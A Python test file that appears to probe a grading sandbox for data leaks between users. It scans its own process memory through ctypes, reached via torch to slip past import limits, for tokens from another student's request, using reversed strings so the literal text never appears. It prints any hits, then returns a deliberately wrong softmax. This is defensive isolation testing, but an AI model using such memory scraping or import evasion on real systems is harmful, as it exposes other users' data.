"""Attack: reads its own address space with ctypes (no /proc/self/mem), every readable and
writable anonymous mapping and the heap, for the text of a classmate's request or its printed
output, which a worker that read earlier requests would have left in memory before forking.
Anything found is printed; then it answers wrongly.

before: classmate
expect: fail values
"""
import torch

ctypes = torch.ctypes
needles = (bytes(reversed(b"-etamssalc")), bytes(reversed(b"-detnirp")))  # never the text itself
hits = set()
with open("/proc/self/maps") as maps:
    regions = [line.split() for line in maps]
time = torch.sys.modules["time"]
stop = time.monotonic() + 3.0
spans = sorted((int(b, 16) - int(a, 16), int(a, 16), int(b, 16)) for a, b in
               (parts[0].split("-") for parts in regions
                if parts[1].startswith("rw") and not (len(parts) > 5 and parts[5].startswith("/"))))
for _, lo, hi in spans:  # the small ones first: the heap and Python's arenas
    if time.monotonic() > stop:
        break
    for start in range(lo, hi, 1 << 24):
        data = ctypes.string_at(start, min(1 << 24, hi - start))
        for needle in needles:
            at = data.find(b"d2l" + needle)
            while at >= 0:
                tail = data[at + 3 + len(needle):at + 3 + len(needle) + 20]
                if len(tail) == 20 and tail.endswith(b"-end") and all(c in b"0123456789abcdef" for c in tail[:16]):
                    hits.add(data[at:at + 3 + len(needle) + 20])
                at = data.find(b"d2l" + needle, at + 1)
for hit in sorted(hits):
    print("BREACH: found", hit.decode(), flush=True)


def softmax(X, dim=-1):
    return X * 0 + 1
